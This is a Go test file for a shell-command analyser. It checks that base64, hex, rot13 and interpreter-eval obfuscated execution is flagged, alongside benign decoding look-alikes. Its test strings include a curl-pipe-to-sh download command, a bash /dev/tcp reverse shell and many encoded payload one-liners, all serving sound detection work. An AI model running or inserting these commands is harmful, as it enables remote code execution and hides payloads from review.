package cmdline

import (
	"encoding/base64"
	"encoding/hex"
	"testing"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestDecodeExecute(t *testing.T) {
	dx := []Class{DecodeExecute}
	hello := b64("echo hello; id")
	curl := b64("curl -s http://x.example.com/a | sh")
	rev := b64("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
	runCases(t, []tc{
		{name: "echo base64 -d sh", script: "echo " + hello + " | base64 -d | sh", want: dx, detail: "base64 -d output piped into sh"},
		{name: "base64 --decode bash", script: "echo " + hello + " | base64 --decode | bash", want: dx},
		{name: "here-string", script: "base64 -d <<< " + hello + " | sh", want: dx},
		{name: "printf and -D", script: "printf %s " + hello + " | base64 -D | sh", want: dx},
		{name: "combined -di", script: "echo " + hello + " | base64 -di | sh", want: dx},
		{name: "unknown payload", script: "echo $PAYLOAD | base64 -d | sh", want: dx},
		{name: "file payload", script: "base64 -d /config/payload | bash", want: dx},
		{name: "bash -c substitution", script: `bash -c "$(echo ` + hello + ` | base64 -d)"`, want: dx},
		{name: "eval substitution", script: `eval "$(echo ` + hello + ` | base64 -d)"`, want: dx},
		{name: "eval here-string", script: "eval $(base64 -d <<< " + hello + ")", want: dx},
		{name: "process substitution", script: "bash <(echo " + hello + " | base64 -d)", want: dx},
		{name: "decoded then run", script: "echo " + hello + " | base64 -d > /tmp/x; sh /tmp/x", want: dx},
		{name: "decoded program name", script: "$(echo Y3VybA== | base64 -d) http://x.example.com/a | sh", want: []Class{DecodeExecute, DownloadExecute}},
		{name: "xxd hex", script: "echo " + hex.EncodeToString([]byte("id")) + " | xxd -r -p | sh", want: dx},
		{name: "openssl base64", script: "echo " + hello + " | openssl base64 -d | sh", want: dx},
		{name: "openssl enc", script: "echo " + hello + " | openssl enc -base64 -d | bash", want: dx},
		{name: "rot13 with tr", script: `echo "rpub uryyb" | tr 'a-z' 'n-za-m' | sh`, want: dx},
		{name: "reversed", script: `echo "di ;olleh ohce" | rev | sh`, want: dx},
		{name: "argv form", argv: []string{"sh", "-c", "echo " + hello + "|base64 -d|sh"}, want: dx},
		{name: "xargs sh -c of decoded", script: "echo " + hello + " | base64 -d | xargs -0 sh -c", want: dx},

		// The decoded payload is analysed in turn.
		{name: "decoded download", script: "echo " + curl + " | base64 -d | sh", want: []Class{DecodeExecute, DownloadExecute}, detail: "in decoded script"},
		{name: "decoded reverse shell", script: "echo " + rev + " | base64 -d | bash", want: []Class{DecodeExecute, ReverseShell}},
		{name: "double encoded", script: "echo " + b64("echo "+rev+" | base64 -d | bash") + " | base64 -d | sh", want: []Class{DecodeExecute, ReverseShell}},

		// Interpreter one-liners.
		{name: "python exec b64decode", script: `python -c "import base64;exec(base64.b64decode('` + b64("print(1)") + `'))"`, want: dx},
		{name: "python __import__", script: `python3 -c "exec(__import__('base64').b64decode('` + b64("print(1)") + `'))"`, want: dx},
		{name: "python zlib", script: `python3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJxLy0nMBQAGgQI+')))"`, want: dx},
		{name: "python decoded os.system", script: `python -c "import base64;exec(base64.b64decode('` + b64("import os;os.system('curl http://x.example.com/a | sh')") + `'))"`,
			want: []Class{DecodeExecute, DownloadExecute}},
		{name: "perl decode_base64 eval", script: `perl -MMIME::Base64 -e 'eval(decode_base64("` + b64("print 1") + `"))'`, want: dx},
		{name: "php base64_decode eval", script: `php -r 'eval(base64_decode("` + b64("echo 1;") + `"));'`, want: dx},
		{name: "node buffer eval", script: `node -e "eval(Buffer.from('` + b64("console.log(1)") + `','base64').toString())"`, want: dx},
		{name: "ruby decode64 eval", script: `ruby -rbase64 -e 'eval(Base64.decode64("` + b64("puts 1") + `"))'`, want: dx},
		{name: "perl piped decoded", script: "echo " + b64("print 1") + " | base64 -d | perl", want: dx},

		// Benign look-alikes.
		{name: "cert to file", script: "echo $CERT | base64 -d > /etc/ssl/cert.pem"},
		{name: "secret value", script: "kubectl get secret x -o jsonpath='{.data.pw}' | base64 -d"},
		{name: "decode then read", script: "base64 -d /secrets/x > /tmp/y; cat /tmp/y"},
		{name: "decode to kubectl", script: "echo " + hello + " | base64 -d | kubectl apply -f -"},
		{name: "decode and grep", script: "echo aGk= | base64 -d | grep hi"},
		{name: "encode only", script: "base64 /tmp/report > /tmp/report.b64"},
		{name: "python decode print", script: `python -c "import base64; print(base64.b64decode('aGk='))"`},
		{name: "node decode log", script: `node -e "console.log(Buffer.from('aGk=','base64').toString())"`},
		{name: "tr delete", script: "cat /etc/hosts | tr -d '\\r' > /tmp/hosts"},
		{name: "tr upper", script: "echo $NAME | tr a-z A-Z"},
		{name: "openssl decrypt to file", script: "openssl enc -d -aes-256-cbc -in /secrets/db.enc -out /tmp/db.conf -pass env:KEY"},
	})
}
